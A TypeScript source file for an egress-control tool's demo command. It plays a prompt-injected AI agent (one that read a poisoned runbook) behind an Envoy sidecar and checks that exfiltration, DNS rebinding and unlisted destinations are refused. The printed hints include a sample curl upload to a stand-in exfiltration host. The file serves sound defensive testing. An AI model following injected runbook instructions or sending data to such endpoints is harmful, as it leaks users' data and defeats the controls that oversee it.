/**
 * `exitgate demo` (SPEC §3, README): the whole story on one machine. Starts a DNS server for the
 * demo's `.test` names, loopback upstreams, the control plane and a real Envoy sidecar, then plays
 * a compromised agent: its allowed destinations work, exfiltration, an unlisted port, an IP
 * literal and a DNS-rebinding attempt at the control plane's admin API are refused, the API key
 * its paging tool needs is injected by Envoy (the agent never holds it, cannot spend it on other
 * methods or paths, and cannot send it elsewhere), and a live policy edit revokes a destination
 * without restarting Envoy. Each verdict is what Envoy did;
 * each rule is what `exitgate check` computes; any disagreement is flagged.
 *
 * Everything listens on loopback and the guard exempts only the upstreams' /32 addresses, so
 * nothing the demo does can send a packet off the machine. Exit 0 only if every attempt went as
 * expected. Without --once it keeps running for hands-on use until Ctrl-C.
 */
import { execFile } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { promises as fs } from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import pino from 'pino';
import { startWorld, HTTP_UPSTREAM_IP, TLS_UPSTREAM_IP, type Sidecar, type World } from '../demo/world';
import { connectThroughProxy } from '../demo/proxy-client';
import { locateEnvoy, projectRoot } from '../envoy/locate';
import { createLogger, silentLogger } from '../util/logger';
import { formatNodeId } from '../identity/node-id';
import { loadPolicyDir } from '../policy/load';
import { buildAgentIr } from '../ir/build-ir';
import { formatRef, type AccessIr } from '../ir/agent-ir';
import { formatHostPattern } from '../policy/host-pattern';
import type { Metrics } from '../util/metrics';
import { UsageError } from './errors';
import {
  AGENT_OWN_AUTH,
  CREDENTIAL_RULE,
  DEMO_CREDENTIAL,
  DEMO_NODE,
  POLICY_FILE_NAME,
  REVOKED,
  TLS_NAMES,
  afterRevokeAttempts,
  dnsRecords,
  initialAttempts,
  policyYaml,
  type DemoPorts,
} from '../demo/demo-scenario';
import { attemptLabel, countAccepted, runAttempt, secretPreview, timeLiveRevocation, writeAtomic, type AttemptResult, type JudgeContext } from '../demo/demo-run';
import { AttemptTable, FAIL, PASS, colorWanted, makeStyle } from '../demo/demo-render';

class Interrupted extends Error {}

const REVOKE_TIMEOUT_MS = 5000;
const REVOKE_POLL_MS = 5;

function envoyVersion(bin: string): Promise<string> {
  return new Promise((resolve) => {
    execFile(bin, ['--version'], { timeout: 20_000 }, (err, stdout) => {
      const m = /version: [0-9a-f]+\/(\d+\.\d+\.\d+[^/]*)\//.exec(stdout);
      resolve(err || !m ? 'version unknown' : m[1]!);
    });
  });
}

async function pushCounts(metrics: Metrics): Promise<Map<string, number>> {
  const got = await metrics.pushes.get();
  return new Map(got.values.map((v) => [String(v.labels.type ?? '?'), v.value]));
}

/** `type.googleapis.com/envoy.config.route.v3.RouteConfiguration` -> `RouteConfiguration`. */
const shortType = (typeUrl: string): string => typeUrl.split('.').pop() ?? typeUrl;

function pushDelta(before: Map<string, number>, after: Map<string, number>): string {
  const parts: string[] = [];
  for (const [type, n] of after) {
    const d = n - (before.get(type) ?? 0);
    if (d > 0) parts.push(`${shortType(type)} ×${d}`);
  }
  return parts.length > 0 ? parts.join(', ') : 'nothing';
}

/** A value the demo can put in a header as is: printable ASCII, no spaces, not trivially short. */
const TOKEN_SHAPE = /^[!-~]{16,512}$/;

/**
 * The demo's PagerDuty key: the value already in EXITGATE_DEMO_PAGERDUTY_TOKEN (so a test can
 * know it), else a fresh random one put there for this run. The control plane, running in this
 * process, reads it from process.env like any `source: {env: ...}` credential.
 */
function demoSecret(): { value: string; generated: boolean } {
  const preset = process.env[DEMO_CREDENTIAL.env];
  if (preset !== undefined && preset !== '') {
    if (!TOKEN_SHAPE.test(preset)) throw new UsageError(`${DEMO_CREDENTIAL.env} must be 16 to 512 printable ASCII characters without spaces (or unset, for a random key)`);
    return { value: preset, generated: false };
  }
  const value = randomBytes(24).toString('base64url');
  process.env[DEMO_CREDENTIAL.env] = value;
  return { value, generated: true };
}

/** `tls: originate, POST /v2/enqueue only, injects pagerduty-key` for an L7 rule; '' for a plain one. */
function accessText(access: AccessIr | undefined): string {
  if (!access || (access.connect && access.upstream === 'plain' && !access.methods && !access.paths && !access.credential)) return '';
  const parts: string[] = [];
  if (access.upstream === 'tls') parts.push('plain HTTP in, Envoy originates TLS');
  if (access.methods || access.paths) {
    const paths = access.paths?.map((p) => ('exact' in p ? p.exact : `${p.prefix}*`)).join(', ');
    parts.push(`${access.methods?.join('/') ?? 'any method'} ${paths ?? 'any path'} only`);
  }
  if (access.credential) parts.push(`Envoy injects ${access.credential}`);
  return parts.join('; ');
}

async function waitUntilAllowed(proxy: { host: string; port: number }, target: string, timeoutMs: number, interrupted: () => boolean): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    if (interrupted()) throw new Interrupted();
    const r = await connectThroughProxy(proxy, target, { timeoutMs: 2000 }).catch(() => undefined);
    r?.socket?.destroy();
    if (r?.status === 200) return;
    if (Date.now() > deadline) throw new Error(`the sidecar did not apply the demo policy within ${timeoutMs} ms (CONNECT ${target} still answers ${r?.status ?? 'nothing'})`);
    await new Promise((r2) => setTimeout(r2, 50));
  }
}

export async function demo(flags: { once?: boolean }): Promise<number> {
  const out = (line = ''): void => {
    process.stdout.write(`${line}\n`);
  };
  const s = makeStyle(colorWanted(process.stdout));
  const verbose = process.env.EXITGATE_DEMO_VERBOSE === '1';
  // Verbose logs go to stderr so stdout stays the story.
  const log = verbose ? createLogger({ level: 'info', destination: pino.destination(2) }) : silentLogger();
  // Before the control plane starts: it reads the credential from its (this process's) environment.
  const secret = demoSecret();

  // Ctrl-C (or SIGTERM) at any point: stop what is running, clean up, exit. A second one exits
  // at once; Envoy children are SIGKILLed on process exit (envoy/process.ts).
  let interrupted = false;
  let wake!: () => void;
  const interruption = new Promise<void>((resolve) => (wake = resolve));
  const onSignal = (signal: NodeJS.Signals): void => {
    if (interrupted) {
      process.stderr.write(`exitgate demo: ${signal} again, exiting now\n`);
      process.exit(130);
    }
    interrupted = true;
    process.stderr.write(`\n${signal}: stopping the demo...\n`);
    wake();
  };
  process.on('SIGINT', onSignal);
  process.on('SIGTERM', onSignal);
  const step = <T>(p: Promise<T>): Promise<T> =>
    Promise.race([
      p,
      interruption.then((): never => {
        throw new Interrupted();
      }),
    ]);

  let workDir: string | undefined;
  let worldP: Promise<World> | undefined;
  let sidecarP: Promise<Sidecar> | undefined;
  let envoyPid: number | undefined;
  let code = 1;
  let failure: unknown;

  try {
    out(s.bold('exitgate demo: an AI agent behind an Envoy sidecar it cannot talk its way past'));
    out();
    out(`acme's on-call assistant has just read a poisoned runbook and now follows the attacker's`);
    out('instructions. Its only way out is its sidecar, driven by the exitgate control plane, and');
    out('the secrets its tools need are injected by Envoy: the agent has nothing to steal.');
    out();
    out(s.dim('starting a DNS server for .test names, a demo CA, upstreams, the control plane and Envoy...'));

    workDir = await fs.mkdtemp(path.join(os.tmpdir(), 'exitgate-demo-'));
    const envoyBin = await step(locateEnvoy());
    const version = await step(envoyVersion(envoyBin));
    worldP = startWorld({ workDir, tlsNames: TLS_NAMES, log });
    const world = await step(worldP);
    for (const [name, ips] of dnsRecords()) world.dns.setRecord(name, ips);
    const ports: DemoPorts = { tls: world.tlsUpstream.port, http: world.httpUpstream.port, admin: world.cp.adminPort };
    const policyFile = path.join(world.policiesDir, POLICY_FILE_NAME);
    const applied = new Promise<void>((resolve) => world.cp.store.once('policies', () => resolve()));
    await writeAtomic(policyFile, policyYaml(ports));
    await step(applied);
    sidecarP = world.addSidecar(DEMO_NODE);
    const sidecar = await step(sidecarP);
    envoyPid = sidecar.envoy.pid;
    await waitUntilAllowed(sidecar.proxy, `api.datadoghq.test:${ports.tls}`, 10_000, () => interrupted);

    const proxyUrl = `http://${sidecar.proxy.host}:${sidecar.proxy.port}`;
    const adminHost = '127.0.0.1';
    out();
    out(`  ${s.bold('control plane')}  xDS (ADS) 127.0.0.1:${world.cp.xdsPort}, admin API http://${adminHost}:${ports.admin}`);
    out(`  ${s.bold('sidecar      ')}  Envoy ${version}, pid ${sidecar.envoy.pid}, node ${formatNodeId(DEMO_NODE)}, proxy ${proxyUrl}`);
    out(`  ${s.bold('DNS (.test)  ')}  ${world.dns.address.host}:${world.dns.address.port}, answers the demo's names only, forwards nothing`);
    out(`  ${s.bold('upstreams    ')}  TLS ${TLS_UPSTREAM_IP}:${ports.tls} (certificate from the demo CA), plain HTTP ${HTTP_UPSTREAM_IP}:${ports.http}`);
    out(`  ${s.bold('guard        ')}  exempts only ${TLS_UPSTREAM_IP}/32 and ${HTTP_UPSTREAM_IP}/32; nothing here can leave the machine`);
    out(`  ${s.bold('policy       ')}  ${policyFile} (watched: edits apply live)`);
    out(
      `  ${s.bold('secret       ')}  ${DEMO_CREDENTIAL.name} = ${secretPreview(secret.value)} (${secret.generated ? 'random, for this run' : `from ${DEMO_CREDENTIAL.env}`}): held by the control plane and Envoy, never the agent`,
    );
    out();
    out(s.bold(`Allowlist of ${DEMO_NODE.tenant}/${DEMO_NODE.agent}:`));
    const set = await loadPolicyDir(world.policiesDir);
    if (!set.ok) throw new Error('the demo policy did not load');
    const ir = buildAgentIr(set.value, DEMO_NODE.tenant, DEMO_NODE.agent);
    const byRule = new Map<string, { hosts: string[]; ports: number[]; access?: AccessIr }>();
    for (const a of ir.allows) {
      const key = formatRef(a.ref);
      const entry = byRule.get(key) ?? { hosts: [], ports: a.ports, ...(a.access ? { access: a.access } : {}) };
      entry.hosts.push(formatHostPattern(a.pattern));
      byRule.set(key, entry);
    }
    const refWidth = Math.max(...[...byRule.keys()].map((k) => k.length));
    for (const [ref, { hosts, ports: rulePorts, access }] of byRule) {
      const why = rulePorts.includes(ports.admin) ? s.dim("  (the admin API's port: bait for the rebinding attempt)") : '';
      const l7 = accessText(access);
      out(`  ${ref.padEnd(refWidth)}  ${hosts.join(', ')}  port ${rulePorts.join(', ')}${l7 ? `  (${l7})` : ''}${why}`);
    }
    out('  everything else: denied');
    out();

    const admin = countAccepted(adminHost, ports.admin);
    const ctx: JudgeContext = {
      proxy: sidecar.proxy,
      caPem: world.ca.caPem,
      policiesDir: world.policiesDir,
      node: DEMO_NODE,
      dns: world.dns,
      admin: { host: adminHost, port: ports.admin, accepted: () => admin.count },
      upstreams: [world.tlsUpstream, world.httpUpstream],
      secrets: new Map([[DEMO_CREDENTIAL.name, secret.value]]),
    };
    const first = initialAttempts(ports);
    const second = afterRevokeAttempts(ports);
    const table = new AttemptTable(s, [...first, ...second].map(attemptLabel));
    const results: AttemptResult[] = [];
    out(s.bold('What the agent tries:'));
    out(table.header());
    try {
      for (const spec of first) {
        const r = await step(runAttempt(ctx, results.length + 1, spec));
        results.push(r);
        out(table.row(r));
      }

      // The live update: revoke one destination by editing the watched file, and time it.
      const revokedRef = `${REVOKED.policy}/${REVOKED.rule}`;
      out(table.divider(`policy file edited live: ${revokedRef} revoked, Envoy not restarted`));
      const pidBefore = sidecar.envoy.pid;
      const pushesBefore = await pushCounts(world.cp.metrics);
      const live = await step(
        timeLiveRevocation({
          file: policyFile,
          text: policyYaml(ports, { revoked: { at: new Date().toISOString() } }),
          proxy: sidecar.proxy,
          connectTarget: `${REVOKED.host}:${ports.tls}`,
          onApplied: (listener) => {
            world.cp.store.on('policies', listener);
            return () => world.cp.store.off('policies', listener);
          },
          timeoutMs: REVOKE_TIMEOUT_MS,
          pollMs: REVOKE_POLL_MS,
          aborted: () => interrupted,
        }),
      );
      const pushesAfter = await pushCounts(world.cp.metrics);
      for (const spec of second) {
        const r = await step(runAttempt(ctx, results.length + 1, spec));
        results.push(r);
        out(table.row(r));
      }
      const envoyAlive = sidecar.envoy.exitStatus === undefined && sidecar.envoy.pid === pidBefore && isAlive(pidBefore);

      out();
      out(s.bold('Live policy update:'));
      const liveOk = live.refusedAfterMs !== undefined && envoyAlive;
      if (live.refusedAfterMs !== undefined) {
        const pidText = envoyAlive ? `Envoy pid ${pidBefore} unchanged` : s.red(`Envoy pid ${pidBefore} is no longer running (${sidecar.envoy.exitStatus ?? 'gone'})`);
        out(`  ${liveOk ? s.green(PASS) : s.red(FAIL)} revoked ${revokedRef}: next attempt refused after ${Math.round(live.refusedAfterMs)} ms; ${pidText}`);
      } else {
        out(s.red(`  ${FAIL} revoked ${revokedRef}: the sidecar still allowed ${REVOKED.host} ${REVOKE_TIMEOUT_MS} ms after the file was written`));
      }
      const appliedText = live.appliedAfterMs !== undefined ? `the control plane applied the edited file after ${Math.round(live.appliedAfterMs)} ms` : 'the control plane did not report applying the edit';
      out(s.dim(`    (timed from the file's atomic replacement; ${appliedText} and pushed ${pushDelta(pushesBefore, pushesAfter)}; ${live.polls} CONNECTs polled every ${REVOKE_POLL_MS} ms)`));

      const asExpected = results.filter((r) => r.ok).length;
      const disagreements = results.filter((r) => !r.agree).length;
      out();
      const allOk = asExpected === results.length && disagreements === 0 && liveOk;
      const summary = `${asExpected}/${results.length} attempts as expected; ${
        disagreements === 0 ? 'exitgate check agreed with Envoy on every attempt' : `${disagreements} DISAGREEMENT(S) between exitgate check and Envoy`
      }${liveOk ? '' : '; the live update FAILED'}`;
      out(allOk ? s.green(s.bold(`${PASS} ${summary}`)) : s.red(s.bold(`${FAIL} ${summary}`)));
      code = allOk ? 0 : 1;
    } finally {
      admin.dispose();
    }

    if (!flags.once && !interrupted) {
      const root = projectRoot();
      const rel = path.relative(process.cwd(), path.join(root, 'bin', 'exitgate.js')) || 'bin/exitgate.js';
      const cli = `node ${rel}`;
      const ca = world.ca.caCertPath;
      out();
      out(s.bold('Try it by hand (everything keeps running until Ctrl-C):'));
      out(`  curl --cacert ${ca} -x ${proxyUrl} https://api.datadoghq.test:${ports.tls}/api/v1/validate`);
      out(`  curl -x ${proxyUrl} http://status.internal-tools.test:${ports.http}/health`);
      out(`  curl --cacert ${ca} -x ${proxyUrl} https://paste.exfil.test:${ports.tls}/upload     ${s.dim('# refused: CONNECT 403')}`);
      out(s.dim(`  (the upstreams' certificate comes from the demo CA: without --cacert, curl rightly refuses it)`));
      out(
        `  curl -x ${proxyUrl} -X ${CREDENTIAL_RULE.method} -H '${DEMO_CREDENTIAL.header}: ${AGENT_OWN_AUTH}' -d '{}' http://${CREDENTIAL_RULE.host}${CREDENTIAL_RULE.path}     ${s.dim('# Envoy swaps in the key')}`,
      );
      out(s.dim(`  (this stand-in upstream echoes the request headers, key included; a real API would not)`));
      out(`  ${cli} check --policies ${world.policiesDir} --node ${formatNodeId(DEMO_NODE)} https://events.pagerduty.test:${ports.tls}/`);
      out(`  ${cli} status --admin 127.0.0.1:${ports.admin}`);
      out(`  \${EDITOR:-vi} ${policyFile}     ${s.dim(`# e.g. restore ${REVOKED.policy}/${REVOKED.rule}: applies live`)}`);
      out();
      out(s.bold('Press Ctrl-C to stop.'));
      await interruption;
    }
  } catch (err) {
    if (err instanceof Interrupted || interrupted) code = 130;
    else failure = err;
  } finally {
    // Whatever was started is stopped, including a world or Envoy still starting up.
    const world = worldP ? await worldP.catch(() => undefined) : undefined;
    if (sidecarP) await sidecarP.catch(() => undefined);
    if (world) {
      envoyPid ??= world.sidecars[0]?.envoy.pid;
      await world.stop();
    }
    if (workDir) await fs.rm(workDir, { recursive: true, force: true });
    if (secret.generated) delete process.env[DEMO_CREDENTIAL.env];
    process.off('SIGINT', onSignal);
    process.off('SIGTERM', onSignal);
    if (world || workDir) {
      const what = envoyPid !== undefined ? `Envoy (pid ${envoyPid}), the control plane, DNS and upstreams` : 'the control plane, DNS and upstreams';
      out(s.dim(`stopped ${what}; removed ${workDir ?? 'nothing'}`));
    }
  }
  if (failure !== undefined) {
    const msg = failure instanceof Error ? failure.message : String(failure);
    throw new UsageError(`demo failed: ${msg}`, 1);
  }
  return code;
}

function isAlive(pid: number): boolean {
  try {
    process.kill(pid, 0);
    return true;
  } catch {
    return false;
  }
}
